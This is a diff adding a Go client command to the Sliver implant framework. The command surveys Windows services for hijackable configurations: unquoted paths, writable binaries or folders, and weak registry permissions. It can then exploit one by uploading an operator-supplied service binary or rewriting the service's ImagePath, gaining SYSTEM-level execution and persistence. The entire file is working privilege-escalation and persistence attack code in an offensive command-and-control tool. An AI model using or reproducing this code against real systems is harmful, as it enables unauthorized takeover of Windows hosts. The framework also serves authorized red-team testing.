@@ -0,0 +1,282 @@
+package privilege
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"os"
+	"strings"
+
+	"github.com/bishopfox/sliver/client/command/settings"
+	"github.com/bishopfox/sliver/client/console"
+	"github.com/bishopfox/sliver/protobuf/clientpb"
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+	"github.com/bishopfox/sliver/util/encoders"
+	"github.com/desertbit/grumble"
+	"github.com/jedib0t/go-pretty/v6/table"
+	"google.golang.org/protobuf/proto"
+)
+
+const (
+	hijackUnquotedPath = "unquoted-path"
+	hijackBinaryDACL   = "binary-dacl"
+	hijackRegistryDACL = "registry-dacl"
+	hijackWritableDir  = "writable-dir"
+
+	servicesKey = `SYSTEM\CurrentControlSet\Services`
+)
+
+// ServiceHijacksCmd - Survey services that can be hijacked, and optionally install
+// a service binary with one of the techniques that were found (Windows only)
+func ServiceHijacksCmd(ctx *grumble.Context, con *console.SliverConsoleClient) {
+	session, beacon := con.ActiveTarget.GetInteractive()
+	if session == nil && beacon == nil {
+		return
+	}
+	targetOS := getOS(session, beacon)
+	if targetOS != "windows" {
+		con.PrintErrorf("Command only supported on Windows.\n")
+		return
+	}
+	exploit := ctx.Flags.String("exploit")
+	if exploit != "" && session == nil {
+		con.PrintErrorf("The exploit step requires an interactive session\n")
+		return
+	}
+
+	ctrl := make(chan bool)
+	con.SpinUntil("Surveying services ...", ctrl)
+	serviceHijacks, err := con.Rpc.ServiceHijacks(context.Background(), &sliverpb.ServiceHijacksReq{
+		Request: con.ActiveTarget.Request(ctx),
+	})
+	ctrl <- true
+	<-ctrl
+	if err != nil {
+		con.PrintErrorf("%s\n", err)
+		return
+	}
+	if serviceHijacks.Response != nil && serviceHijacks.Response.Async {
+		con.AddBeaconCallback(serviceHijacks.Response.TaskID, func(task *clientpb.BeaconTask) {
+			err = proto.Unmarshal(task.Response, serviceHijacks)
+			if err != nil {
+				con.PrintErrorf("Failed to decode response %s\n", err)
+				return
+			}
+			PrintServiceHijacks(serviceHijacks, con)
+		})
+		con.PrintAsyncResponse(serviceHijacks.Response)
+		return
+	}
+	if exploit == "" {
+		PrintServiceHijacks(serviceHijacks, con)
+		return
+	}
+	if serviceHijacks.Response != nil && serviceHijacks.Response.Err != "" {
+		con.PrintResponseErr(serviceHijacks.Response)
+		return
+	}
+
+	hijack, err := selectServiceHijack(serviceHijacks.Hijacks, exploit, ctx.Flags.String("technique"))
+	if err != nil {
+		con.PrintErrorf("%s\n", err)
+		return
+	}
+	localPath := ctx.Flags.String("file")
+	if localPath == "" {
+		con.PrintErrorf("Missing --file, the service binary to install (see generate --format service)\n")
+		return
+	}
+	data, err := os.ReadFile(localPath)
+	if err != nil {
+		con.PrintErrorf("%s\n", err)
+		return
+	}
+	persistence, err := exploitServiceHijack(ctx, hijack, data, ctx.Flags.String("path"), con)
+	if err != nil {
+		con.PrintErrorf("%s\n", err)
+		return
+	}
+	persistence.HostUUID = session.UUID
+	persistence.Hostname = session.Hostname
+	persistence, err = con.Rpc.PersistenceAdd(context.Background(), persistence)
+	if err != nil {
+		con.PrintErrorf("Failed to record persistence: %s\n", err)
+		return
+	}
+	con.PrintInfof("Hijacked %s (%s), the binary runs as %s the next time the service starts\n",
+		hijack.Service, hijack.Technique, hijack.Account)
+	con.PrintInfof("Recorded as persistence %s, to undo: %s\n", strings.Split(persistence.ID, "-")[0], persistence.Restore)
+}
+
+// selectServiceHijack - The hijack the operator picked, the technique can be omitted
+// if the service only has one
+func selectServiceHijack(hijacks []*sliverpb.ServiceHijack, service string, technique string) (*sliverpb.ServiceHijack, error) {
+	techniques := []string{}
+	var selected *sliverpb.ServiceHijack
+	for _, hijack := range hijacks {
+		if !strings.EqualFold(hijack.Service, service) {
+			continue
+		}
+		if technique != "" && hijack.Technique != technique {
+			continue
+		}
+		techniques = append(techniques, hijack.Technique)
+		if selected == nil {
+			selected = hijack
+		}
+	}
+	if selected == nil {
+		return nil, fmt.Errorf("no hijack found for service '%s'", service)
+	}
+	if 1 < len(techniques) && technique == "" {
+		return nil, fmt.Errorf("service '%s' can be hijacked with more than one technique, pick one with --technique (%s)",
+			service, strings.Join(techniques, ", "))
+	}
+	return selected, nil
+}
+
+// exploitServiceHijack - Install the service binary with the hijack's technique,
+// returns the persistence to record with how to undo it
+func exploitServiceHijack(ctx *grumble.Context, hijack *sliverpb.ServiceHijack, data []byte, installPath string, con *console.SliverConsoleClient) (*clientpb.Persistence, error) {
+	persistence := &clientpb.Persistence{
+		Technique: "service-hijack/" + hijack.Technique,
+		Target:    hijack.Service,
+		Path:      hijack.Path,
+	}
+	switch hijack.Technique {
+
+	case hijackUnquotedPath:
+		// The loader tries this path before the service's real binary
+		err := uploadServiceBinary(ctx, hijack.Path, data, con)
+		if err != nil {
+			return nil, err
+		}
+		persistence.Restore = fmt.Sprintf("rm \"%s\"", hijack.Path)
+
+	case hijackBinaryDACL, hijackWritableDir:
+		backup := hijack.Path + ".bak"
+		mv, err := con.Rpc.Mv(context.Background(), &sliverpb.MvReq{
+			Src:     hijack.Path,
+			Dst:     backup,
+			Request: con.ActiveTarget.Request(ctx),
+		})
+		if err == nil && mv.Response != nil && mv.Response.Err != "" {
+			err = errors.New(mv.Response.Err)
+		}
+		if err != nil {
+			return nil, fmt.Errorf("failed to back up %s: %s", hijack.Path, err)
+		}
+		err = uploadServiceBinary(ctx, hijack.Path, data, con)
+		if err != nil {
+			con.Rpc.Mv(context.Background(), &sliverpb.MvReq{
+				Src:     backup,
+				Dst:     hijack.Path,
+				Request: con.ActiveTarget.Request(ctx),
+			})
+			return nil, err
+		}
+		persistence.Restore = fmt.Sprintf("mv \"%s\" \"%s\"", backup, hijack.Path)
+
+	case hijackRegistryDACL:
+		if installPath == "" {
+			return nil, errors.New("missing --path, where to install the service binary")
+		}
+		err := uploadServiceBinary(ctx, installPath, data, con)
+		if err != nil {
+			return nil, err
+		}
+		regWrite, err := con.Rpc.RegistryWrite(context.Background(), &sliverpb.RegistryWriteReq{
+			Hive:        "HKLM",
+			Path:        servicesKey + `\` + hijack.Service,
+			Key:         "ImagePath",
+			Type:        sliverpb.RegistryTypeString,
+			StringValue: fmt.Sprintf("\"%s\"", installPath),
+			Request:     con.ActiveTarget.Request(ctx),
+		})
+		if err == nil && regWrite.Response != nil && regWrite.Response.Err != "" {
+			err = errors.New(regWrite.Response.Err)
+		}
+		if err != nil {
+			return nil, fmt.Errorf("failed to write image path: %s", err)
+		}
+		persistence.Path = installPath
+		persistence.Restore = fmt.Sprintf("registry write --hive HKLM \"%s\\%s\\ImagePath\" '%s' && rm \"%s\"",
+			servicesKey, hijack.Service, hijack.ImagePath, installPath)
+
+	default:
+		return nil, fmt.Errorf("unknown technique '%s'", hijack.Technique)
+	}
+	return persistence, nil
+}
+
+func uploadServiceBinary(ctx *grumble.Context, remotePath string, data []byte, con *console.SliverConsoleClient) error {
+	ctrl := make(chan bool)
+	con.SpinUntil(fmt.Sprintf("Uploading service binary to %s ...", remotePath), ctrl)
+	upload, err := con.Rpc.Upload(context.Background(), &sliverpb.UploadReq{
+		Path:    remotePath,
+		Encoder: "gzip",
+		Data:    new(encoders.Gzip).Encode(data),
+		IsIOC:   true,
+		Request: con.ActiveTarget.Request(ctx),
+	})
+	ctrl <- true
+	<-ctrl
+	if err != nil {
+		return err
+	}
+	if upload.Response != nil && upload.Response.Err != "" {
+		return errors.New(upload.Response.Err)
+	}
+	return nil
+}
+
+// PrintServiceHijacks - Print the results of the service-hijacks survey
+func PrintServiceHijacks(serviceHijacks *sliverpb.ServiceHijacks, con *console.SliverConsoleClient) {
+	if serviceHijacks.Response != nil && serviceHijacks.Response.Err != "" {
+		con.PrintResponseErr(serviceHijacks.Response)
+		return
+	}
+	if len(serviceHijacks.Hijacks) == 0 {
+		con.PrintInfof("No hijackable services found\n")
+		return
+	}
+	tw := table.NewWriter()
+	tw.SetStyle(settings.GetTableStyle(con))
+	tw.AppendHeader(table.Row{"Service", "Account", "Start", "Technique", "Path"})
+	for _, hijack := range serviceHijacks.Hijacks {
+		account := hijack.Account
+		if isPrivilegedAccount(account) {
+			account = console.Bold + account + console.Normal
+		}
+		tw.AppendRow(table.Row{hijack.Service, account, hijack.StartType, hijack.Technique, hijack.Path})
+	}
+	con.Printf("%s\n", tw.Render())
+}
+
+// isPrivilegedAccount - LocalSystem, or NT AUTHORITY\SYSTEM
+func isPrivilegedAccount(account string) bool {
+	account = account[strings.LastIndex(account, `\`)+1:]
+	switch strings.ToLower(account) {
+	case "localsystem", "system":
+		return true
+	}
+	return false
+}